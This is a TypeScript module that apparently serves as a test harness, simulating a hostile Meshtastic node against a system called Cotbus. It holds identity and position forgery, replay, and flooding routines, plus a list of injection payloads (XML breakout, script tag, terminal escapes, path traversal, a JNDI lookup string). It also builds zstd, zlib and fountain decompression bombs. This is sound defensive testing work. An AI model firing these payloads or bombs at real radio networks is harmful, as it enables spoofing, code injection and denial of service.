/**
 * Somebody on the mesh who means harm, or has a broken radio: what such a node can put on the air. Nothing here knows how
 * Cotbus defends itself; each attack is packets, as anybody with the key of the channel can make them.
 */
import { create, toBinary } from '@bufbuild/protobuf';
import { meshtastic } from '@cotbus/contracts';
import { deflateSync } from 'node:zlib';
import { broadcastPacket } from './mesh-packet.ts';
import type { Mesh } from './mesh.ts';

const { PortNum, UserSchema, PositionSchema, TAKPacketV2Schema } = meshtastic;

export interface HostileMesh {
  /** Packets with the number of somebody else: another name, another place. */
  forge(victim: number, longName: string): void;
  /** The same packets once more, to the byte. */
  replay(packets: readonly meshtastic.MeshPacket[]): void;
  /** Names made to break out of XML, logs, terminals and web pages. @returns the node numbers, one for each name. */
  injectNames(): readonly number[];
  /** A few bytes that want to be megabytes: zstd, zlib, fountain transfers. @returns the number of packets. */
  bomb(): number;
  /** As many frames as asked for from one node, each with something new in it. */
  flood(node: number, frames: number): void;
}

const FIRST_ATTACKER = 0x0bad0000;

/** Each is a long name as a radio takes it: up to 39 bytes of anything. */
export const HOSTILE_NAMES: readonly string[] = [
  '"/><event uid="EVIL" type="a-h-G"/>',
  ']]><contact callsign="EVIL"/>',
  '</detail></event><event uid="EVIL">',
  '<script>alert(1)</script>',
  '\u001b]0;EVIL\u0007\u001b[2J',
  '../../../../etc/passwd',
  'a/b/+/#',
  '${jndi:ldap://evil}%s%n',
  '\u202Eelbisivni\u0000\uFFFE',
];

export const createHostileMesh = (mesh: Mesh): HostileMesh => {
  const send = (from: number, portnum: meshtastic.PortNum, payload: Uint8Array): void =>
    void mesh.transmit(broadcastPacket({ from, id: mesh.nextPacketId(), portnum, payload }));
  const name = (from: number, longName: string): void =>
    send(from, PortNum.NODEINFO_APP, toBinary(UserSchema, create(UserSchema, { longName, shortName: 'EVIL' })));
  return {
    forge: (victim, longName) => {
      name(victim, longName);
      const place = { latitudeI: -899_999_999, longitudeI: 1_799_999_999, altitude: 8848 };
      send(victim, PortNum.POSITION_APP, toBinary(PositionSchema, create(PositionSchema, place)));
    },
    replay: (packets) => {
      for (const packet of packets) mesh.transmit(packet);
    },
    injectNames: () =>
      HOSTILE_NAMES.map((longName, at) => {
        const node = FIRST_ATTACKER + at;
        name(node, longName);
        send(node, PortNum.ATAK_PLUGIN_V2, report(longName, node));
        return node;
      }),
    bomb: () => {
      const node = FIRST_ATTACKER + 0x100;
      const bombs = [
        [PortNum.ATAK_PLUGIN_V2, zstdBomb(0x00, true)],
        [PortNum.ATAK_PLUGIN_V2, zstdBomb(0x3d, false)],
        [PortNum.ATAK_PLUGIN_V2, zstdBomb(0x3e, false)],
        [PortNum.ATAK_FORWARDER, zlibBomb()],
        ...fountainBombs().map((bytes) => [PortNum.ATAK_FORWARDER, bytes] as const),
      ] as const;
      for (const [port, payload] of bombs) send(node, port, payload);
      return bombs.length;
    },
    flood: (node, frames) => {
      for (let at = 0; at < frames; at += 1) {
        send(node, PortNum.ATAK_PLUGIN_V2, report(`FLOOD-${at}`, node));
      }
    },
  };
};

/** Port 78, uncompressed: a position report under any callsign. */
const report = (callsign: string, node: number): Uint8Array => {
  const packet = create(TAKPacketV2Schema, {
    uid: `HOSTILE-${node.toString(16)}`,
    callsign,
    cotTypeId: meshtastic.CotType.CotType_a_f_G_U_C,
    latitudeI: 470_000_000,
    longitudeI: 110_000_000,
    staleSeconds: 3600,
  });
  return Uint8Array.of(0xff, ...toBinary(TAKPacketV2Schema, packet));
};

const ZSTD_MAGIC = [0x28, 0xb5, 0x2f, 0xfd];
const RLE_BYTES = 128 * 1024;
const RLE_BLOCKS = 40;

/** RFC 8878: forty blocks of one repeated byte, 128 KiB each, in four bytes each. @param flags first byte of the frame */
const zstdBomb = (flags: number, withMagic: boolean): Uint8Array => {
  const size = RLE_BYTES * RLE_BLOCKS;
  // Single segment, content size in four bytes.
  const header = [0xa0, size & 0xff, (size >>> 8) & 0xff, (size >>> 16) & 0xff, size >>> 24];
  const blocks = Array.from({ length: RLE_BLOCKS }, (_, at) => {
    const block = (at === RLE_BLOCKS - 1 ? 1 : 0) | (1 << 1) | (RLE_BYTES << 3);
    return [block & 0xff, (block >>> 8) & 0xff, (block >>> 16) & 0xff, 0x41];
  }).flat();
  return Uint8Array.from([flags, ...(withMagic ? ZSTD_MAGIC : []), ...header, ...blocks]);
};

/** 220 KB of blanks around an event, in a frame. */
const zlibBomb = (): Uint8Array =>
  new Uint8Array(deflateSync(Buffer.from(`<event>${' '.repeat(180_000)}</event>`), { level: 9 }));

/** Firsts of transfers that promise 64 KiB in 255 blocks each, and never go on: each with an id of its own. */
const fountainBombs = (): Uint8Array[] =>
  Array.from({ length: 100 }, (_, id) =>
    Uint8Array.from([0x46, 0x54, 0x4e, 0xba, 0xd0, id, 0, id, 255, 0xff, 0xff, ...Array<number>(200).fill(id)]),
  );
